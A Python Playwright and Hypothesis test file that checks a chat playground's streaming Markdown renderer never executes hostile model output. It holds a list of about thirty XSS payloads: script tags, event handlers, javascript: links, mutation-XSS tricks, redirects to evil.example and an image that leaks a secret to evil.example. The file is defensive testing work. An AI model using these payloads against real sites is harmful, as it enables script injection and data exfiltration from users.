"""What a model writes is shown and never runs: hostile answers in a real browser, in one piece and cut anywhere."""

from collections.abc import Iterator
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from playwright.sync_api import Page, expect

from tests.e2e.browser.rig import Rig, saying
from tests.e2e.browser.visit import WIDE, OpenPage, visit

HOSTILE = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg onload='window.pwned = 1'><script>window.pwned = 1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "<a href='javascript:window.pwned = 1'>click</a>",
    "<details open ontoggle='window.pwned = 1'>x</details>",
    "<style>body { display: none }</style><link rel=stylesheet href=//evil.example/x.css>",
    "<form action='//evil.example/'><input name=key autofocus onfocus='window.pwned = 1'></form>",
    "<base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
    "<div id=question class=trouble style='position:fixed;inset:0'>over everything</div>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "[click](javascript:window.pwned=1) [click](JaVaScRiPt&colon;window.pwned=1) [c](data:text/html,<b>1</b>)",
    "[click](vbscript:x) [click](file:///etc/passwd) [click](blob:x) <javascript:window.pwned=1>",
    "[a](https://example.com/'onmouseover='window.pwned=1) [b](<https://example.com/\"onclick=\"window.pwned=1>)",
    "![picture](https://evil.example/leak?q=secret) ![x](data:image/svg+xml,<svg/onload=window.pwned=1>)",
    '![x](y "\\" onerror=\\"window.pwned=1")',
    "```html\n<script>window.pwned = 1</script>\n<img src=x onerror=window.pwned=1>\n```",
    '```"><img/src=x/onerror=window.pwned=1>\ncode\n```',
    "```html onload=window.pwned=1\n</code></pre><script>window.pwned=1</script>\n```",
    "`</code><script>window.pwned=1</script>`",
    "| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n| <script>window.pwned=1</script> | c |",
    "- [x] <input onfocus=window.pwned=1 autofocus>\n- [ ] open",
    "# <b onmouseover=window.pwned=1>x</b>\n\n> <script>window.pwned=1</script>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;",
    "<!-- <script>window.pwned=1</script> --> <![CDATA[<script>window.pwned=1</script>]]> <?php x ?>",
    "\x00<scr\x00ipt>window.pwned=1</scr\x00ipt>\u2028\u202e",
    "[x]: javascript:window.pwned=1\n\n[click][x] [x]",
    "<https://example.com/><script>window.pwned=1</script>",
]

RENDER = """async (pieces) => {
    const { GrowingMarkdown } = await import("/playground/markdown.js");
    const root = document.createElement("div");
    document.body.append(root);
    const growing = new GrowingMarkdown(root);
    for (const piece of pieces) { growing.add(piece); growing.render(); }
    growing.end();
    await new Promise((resolve) => setTimeout(resolve, 0));
    const found = [...root.querySelectorAll("*")].map((node) => [
        node.localName, node.namespaceURI,
        Object.fromEntries([...node.attributes].map(({ name, value }) => [name, value])),
    ]);
    const result = { found, text: root.textContent };
    root.remove();
    return result;
}"""

_TEXT = {"a", "blockquote", "br", "code", "del", "em", "hr", "p", "pre", "s", "span", "strong"}
_BLOCKS = {"h3", "h4", "h5", "h6", "li", "ol", "table", "tbody", "td", "th", "thead", "tr", "ul"}
ELEMENTS = _TEXT | _BLOCKS | {"div", "button"}
ATTRIBUTES = {
    "a": {"href", "title", "target", "rel"},
    "code": {"class"},
    "span": {"class"},
    "ol": {"start"},
    "td": {"align"},
    "th": {"align"},
    "pre": {"class", "role", "aria-label", "tabindex"},
    "div": {"class", "role", "aria-label", "tabindex"},
    "button": {"type", "class"},
}


def check(found: list[tuple[str, str, dict[str, str]]]) -> None:
    """Nothing but what Markdown needs is there, and no link leads anywhere but to the web or a mailbox."""
    for name, namespace, attributes in found:
        assert namespace == "http://www.w3.org/1999/xhtml"
        assert name in ELEMENTS
        assert set(attributes) <= ATTRIBUTES.get(name, set()) | {"dir"}, (name, attributes)
        assert attributes.get("dir", "auto") == "auto"
        if "href" in attributes:
            assert attributes["href"].lower().startswith(("https://", "http://", "mailto:"))
        if name in ("div", "button"):
            assert attributes["class"] in ("code", "code-head", "scrolls table", "plain small")
        if name in ("code", "span"):
            assert all(
                each.startswith(("hljs-", "language-")) or each.endswith("_")
                for each in attributes.get("class", "").split()
            )


@pytest.fixture(scope="module")
def renderer(browser: Any, rig: Rig) -> Iterator[Page]:
    """A page of the playground to render in; what breaks its policy is told by its `broken`."""
    context = browser.new_context(viewport=WIDE)
    page: Page = context.new_page()
    page.goto(f"{rig.url}/")
    page.evaluate("""() => {
        window.broken = [];
        document.addEventListener("securitypolicyviolation", (event) => window.broken.push(event.violatedDirective));
    }""")
    yield page
    context.close()


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize("cut", ["whole", "letter by letter"])
def test_nothing_of_it_runs(renderer: Page, hostile: str, cut: str):
    rendered = renderer.evaluate(RENDER, [hostile] if cut == "whole" else list(hostile))
    check(rendered["found"])
    assert renderer.evaluate("[window.pwned, window.broken]") == [None, []], "not even the policy had to stop it"


@pytest.mark.parametrize(
    "deep", [">" * 5000, "> - " * 2000, "1. " * 5000, "+ " * 3000], ids=["quotes", "both", "list", "points"]
)
def test_no_depth_is_too_much_for_the_browser(renderer: Page, deep: str):
    """A model that repeats itself writes thousands of them, and all else that it wrote is shown too."""
    rendered = renderer.evaluate(RENDER, ["Before\n\n", deep, "x\n\nAfter"])
    check(rendered["found"])
    assert "".join(rendered["text"].split()) == f"Before{deep}xAfter".replace(" ", "")


INGREDIENTS = st.one_of(
    st.sampled_from(
        [
            "\n",
            "\n\n",
            "```",
            "`",
            "*",
            "**",
            "_",
            "~~",
            "#",
            "> ",
            "- ",
            "1. ",
            "|",
            "|---|",
            "[",
            "](",
            ")",
            "!",
            "\\",
        ]
    ),
    st.sampled_from(
        [
            "<",
            ">",
            "</",
            "<b>",
            "<script>",
            "<!--",
            "-->",
            "&lt;",
            "onerror=",
            "javascript:",
            "https://example.com",
            "=",
            '"',
            "'",
        ]
    ),
    st.text(alphabet="ab \t\r\n<>&;", max_size=5),
    st.sampled_from(HOSTILE),
)


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(pieces=st.lists(INGREDIENTS, max_size=14))
def test_whatever_it_is_made_of(renderer: Page, pieces: list[str]):
    check(renderer.evaluate(RENDER, pieces)["found"])
    assert renderer.evaluate("[window.pwned, window.broken]") == [None, []]


TEXT = """# Title

A paragraph with **bold**, *slanted*, `code` and a [link](https://example.com/).
A second line.

- one
- two

  more of two
    1. deep

> quoted
> more

```python
def f():
    return "</code>"
```

| a | b |
|--:|---|
| 1 | 2 |

***

The end."""


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(cuts=st.lists(st.integers(0, len(TEXT)), max_size=30))
def test_it_is_the_same_however_it_was_cut(renderer: Page, cuts: list[int]):
    places = [0, *sorted(cuts), len(TEXT)]
    pieces = [TEXT[start:stop] for start, stop in pairwise(places)]
    whole, cut = renderer.evaluate(RENDER, [TEXT]), renderer.evaluate(RENDER, pieces)
    assert cut["text"] == whole["text"]
    assert len(cut["found"]) >= len(whole["found"]) > 30


def test_a_hostile_answer_on_the_page(open_page: OpenPage, rig: Rig):
    answer = "\n\n".join(HOSTILE)
    rig.house.chats["hostile"] = saying(*[answer[start : start + 7] for start in range(0, len(answer), 7)])
    visitor = visit(open_page, rig)
    elsewhere: list[str] = []
    visitor.page.on("request", lambda request: elsewhere.append(request.url))
    visitor.connect()
    visitor.ask("hostile", "<img src=x onerror='window.pwned = 1'>")
    visitor.wait()
    expect(visitor.text).to_contain_text("<script>window.pwned = 1</script>")
    expect(visitor.text).to_contain_text("over everything")
    expect(visitor.page.locator(".asked-bubble").last).to_have_text("You<img src=x onerror='window.pwned = 1'>")
    expect(visitor.page.locator("main img, iframe, svg script, form [name]")).to_have_count(0)
    expect(visitor.page.locator("[id=question]")).to_have_count(1)
    assert visitor.page.evaluate("window.pwned") is None
    assert [url for url in elsewhere if not url.startswith(f"{rig.url}/")] == []
